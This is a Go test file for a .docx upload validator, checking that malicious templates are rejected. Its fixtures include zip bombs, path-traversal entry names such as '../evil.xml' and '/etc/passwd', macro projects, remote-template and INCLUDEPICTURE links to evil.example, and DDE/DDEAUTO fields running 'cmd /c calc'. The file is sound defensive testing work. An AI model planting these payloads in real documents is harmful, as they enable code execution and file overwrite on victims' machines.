package templates

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"strings"
	"testing"
)

// entry is one file of a hand-made zip. declared overrides the size in
// the headers (0: the real one).
type entry struct {
	name     string
	data     []byte
	declared uint64
	flags    uint16
}

func minimalEntries() []entry {
	return []entry{
		{name: "[Content_Types].xml", data: []byte(contentTypes)},
		{name: "_rels/.rels", data: []byte(rootRels)},
		{name: "word/document.xml", data: []byte(document(para("{a}")))},
	}
}

// rawZip writes entries deflated with CreateRaw, so headers can lie.
func rawZip(t testing.TB, entries []entry) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, e := range entries {
		var comp bytes.Buffer
		fw, _ := flate.NewWriter(&comp, flate.BestCompression)
		if _, err := fw.Write(e.data); err != nil {
			t.Fatal(err)
		}
		fw.Close()
		size := uint64(len(e.data))
		if e.declared != 0 {
			size = e.declared
		}
		w, err := zw.CreateRaw(&zip.FileHeader{
			Name: e.name, Method: zip.Deflate, Flags: e.flags,
			CRC32: crc32.ChecksumIEEE(e.data), CompressedSize64: uint64(comp.Len()), UncompressedSize64: size,
		})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.Copy(w, &comp); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestValidateUploadAccepts(t *testing.T) {
	if err := ValidateUpload(rawZip(t, minimalEntries())); err != nil {
		t.Errorf("minimal docx: %v", err)
	}
	withLink := append(minimalEntries(), entry{name: "word/_rels/document.xml.rels", data: []byte(`<?xml version="1.0"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/></Relationships>`)})
	if err := ValidateUpload(rawZip(t, withLink)); err != nil {
		t.Errorf("internal relationship: %v", err)
	}
	pageField := minimalEntries()
	pageField[2].data = []byte(document(field(" PAGE ", `\* MERGEFORMAT `) + field(` HYPERLINK \l bookmark1 `)))
	if err := ValidateUpload(rawZip(t, pageField)); err != nil {
		t.Errorf("page number and internal link fields: %v", err)
	}
	for _, name := range []string{"thong-bao-ket-luan", "bao-cao-danh-gia-xep-loai"} {
		b, err := builtinFS.ReadFile("builtin/" + name + ".docx")
		if err != nil {
			t.Logf("%s: %v", name, err)
			continue
		}
		if err := ValidateUpload(b); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// rels is a relationships part with one relationship of the given attributes.
func rels(attrs string) string {
	return `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
		`<Relationship Id="rId7" ` + attrs + `/></Relationships>`
}

// field is a paragraph holding a complex field whose code is split over
// one run per part.
func field(code ...string) string {
	var b strings.Builder
	b.WriteString(`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>`)
	for _, c := range code {
		b.WriteString(`<w:r><w:instrText xml:space="preserve">` + c + `</w:instrText></w:r>`)
	}
	b.WriteString(`<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`)
	return b.String()
}

func TestValidateUploadRejects(t *testing.T) {
	zeros := make([]byte, 40<<20)
	many := minimalEntries()
	for i := range 2000 {
		many = append(many, entry{name: fmt.Sprintf("word/media/x%d.bin", i), data: []byte("x")})
	}
	with := func(extra ...entry) []byte { return rawZip(t, append(minimalEntries(), extra...)) }
	replaced := func(name string, data []byte) []byte {
		es := minimalEntries()
		for i := range es {
			if es[i].name == name {
				es[i].data = data
			}
		}
		return rawZip(t, es)
	}
	without := func(name string) []byte {
		var es []entry
		for _, e := range minimalEntries() {
			if e.name != name {
				es = append(es, e)
			}
		}
		return rawZip(t, es)
	}
	external := `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
		`<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`
	cases := []struct {
		name   string
		file   []byte
		substr string
	}{
		{"not a zip", []byte("This is not a Word file"), "not a .docx file (it is not a zip archive)"},
		{"empty", nil, "not a .docx file"},
		{"encrypted (OLE container)", append([]byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1}, make([]byte, 512)...), "encrypted"},
		{"truncated zip", []byte("PK\x03\x04garbage"), "not a valid .docx file"},
		{"too big", append([]byte("PK"), make([]byte, MaxUploadSize)...), "the limit is 10 MiB"},
		{"encrypted entry", with(entry{name: "word/secret.xml", data: []byte("<a/>"), flags: 0x1}), `"word/secret.xml" is encrypted`},
		{"macro project", with(entry{name: "word/vbaProject.bin", data: []byte("VBA")}), "contains macros"},
		{"macro-enabled content type", replaced("[Content_Types].xml", []byte(strings.Replace(contentTypes, "document.main+xml", "document.macroEnabled.main+xml", 1))), "macro-enabled"},
		{"docm inside", with(entry{name: "word/embeddings/x.docm", data: []byte("x")}), "contains macros"},
		{"external relationship", with(entry{name: "word/_rels/document.xml.rels", data: []byte(external)}), `external target "http://evil.example/t.dotm" (attachedTemplate)`},
		{"hyperlink", with(entry{name: "word/_rels/document.xml.rels", data: []byte(strings.Replace(external, "attachedTemplate", "hyperlink", 1))}), "external target"},
		{"declared zip bomb", with(entry{name: "word/big.xml", data: []byte("<a/>"), declared: 60 << 20}), "60 MiB uncompressed; the limit is 50 MiB"},
		{"zip bomb larger than declared", with(entry{name: "word/big.xml", data: zeros, declared: 1000}), "damaged"},
		{"zip bomb by ratio", with(entry{name: "word/big.xml", data: zeros}), "expands more than 200 times"},
		{"2000 entries", rawZip(t, many), "holds 2003 entries; the limit is 1000"},
		{"parent directory", with(entry{name: "../evil.xml", data: []byte("x")}), `"../evil.xml" is not allowed: relative path`},
		{"parent directory inside", with(entry{name: "word/../../evil.xml", data: []byte("x")}), "relative path"},
		{"absolute path", with(entry{name: "/etc/passwd", data: []byte("x")}), "absolute path"},
		{"drive letter", with(entry{name: "C:/x.xml", data: []byte("x")}), "absolute path"},
		{"backslash", with(entry{name: `word\evil.xml`, data: []byte("x")}), "backslash"},
		{"empty segment", with(entry{name: "word//x.xml", data: []byte("x")}), "relative path"},
		{"duplicate entry", with(entry{name: "word/document.xml", data: []byte("<a/>")}), "appears twice"},
		{"no content types", without("[Content_Types].xml"), "[Content_Types].xml is missing"},
		{"no document", without("word/document.xml"), "word/document.xml is missing"},
		{"external target without TargetMode", with(entry{name: "word/_rels/document.xml.rels", data: []byte(strings.Replace(external, ` TargetMode="External"`, "", 1))}), `without declaring TargetMode="External"`},
		{"UNC target without TargetMode", with(entry{name: "word/_rels/document.xml.rels", data: []byte(rels(`Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="\\\\server\share\x.png"`))}), "without declaring TargetMode"},
		{"oleObject relationship", with(entry{name: "word/_rels/document.xml.rels", data: []byte(rels(`Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="media/data.bin"`))}), "embedded object (word/_rels/document.xml.rels has a oleObject relationship"},
		{"embedded package relationship", with(entry{name: "word/_rels/document.xml.rels", data: []byte(rels(`Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/package" Target="media/sheet.xlsx"`))}), "has a package relationship"},
		{"embeddings part", with(entry{name: "word/embeddings/Microsoft_Excel_Worksheet.xlsx", data: []byte("PK")}), "embedded object (word/embeddings/"},
		{"OLE object under another name", with(entry{name: "word/media/image9.png", data: append(append([]byte{}, oleMagic...), make([]byte, 600)...)}), "embedded object (word/media/image9.png)"},
		{"VBA project renamed", with(entry{name: "word/media/image1.png", data: append(append(append([]byte{}, oleMagic...), make([]byte, 100)...), vbaStream...)}), "macros (a VBA project in word/media/image1.png)"},
		{"VBA by content type", replaced("[Content_Types].xml", []byte(strings.Replace(contentTypes, "</Types>", `<Override PartName="/word/data.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>`, 1))), "/word/data.bin is declared a VBA project"},
		{"OLE by content type", replaced("[Content_Types].xml", []byte(strings.Replace(contentTypes, "</Types>", `<Default Extension="dat" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/></Types>`, 1))), "embedded object (dat is declared"},
		{"vbaProject relationship", with(entry{name: "word/_rels/document.xml.rels", data: []byte(rels(`Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="data.bin"`))}), "macros (word/_rels/document.xml.rels has a vbaProject relationship"},
		{"INCLUDETEXT field", replaced("word/document.xml", []byte(document(field(` INCLUDETEXT "C:\\secret.docx" `)))), "has a INCLUDETEXT field, which includes the text of another file"},
		{"INCLUDEPICTURE split over runs", replaced("word/document.xml", []byte(document(field(" INCLUDE", `PICTURE "http://evil.example/p.png" \d `)))), "INCLUDEPICTURE field, which includes a picture"},
		{"LINK field", replaced("word/document.xml", []byte(document(field(` LINK Excel.Sheet.8 "book.xls" "Sheet1!R1C1" \a `)))), "LINK field, which links to content of another application"},
		{"DDE field", replaced("word/document.xml", []byte(document(field(` DDE "cmd" "/c calc" `)))), "DDE field, which runs a DDE link"},
		{"DDEAUTO field", replaced("word/document.xml", []byte(document(field(` ddeauto "cmd" "/c calc" `)))), "DDEAUTO field, which runs a DDE link to another application automatically"},
		{"simple field", replaced("word/document.xml", []byte(document(`<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;x.docx&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`))), "INCLUDETEXT field"},
		{"field in a header", with(entry{name: "word/header1.xml", data: []byte(strings.Replace(document(field(" DDEAUTO x y ")), "w:document", "w:hdr", 2))}), "word/header1.xml has a DDEAUTO field"},
		{"malformed rels", with(entry{name: "word/_rels/document.xml.rels", data: []byte("<Relationships>")}), "not well-formed"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			err := ValidateUpload(tc.file)
			if !errors.Is(err, ErrInvalidTemplate) {
				t.Fatalf("want ErrInvalidTemplate, got %v", err)
			}
			if !strings.Contains(err.Error(), tc.substr) {
				t.Errorf("error %q does not contain %q", err, tc.substr)
			}
		})
	}
}
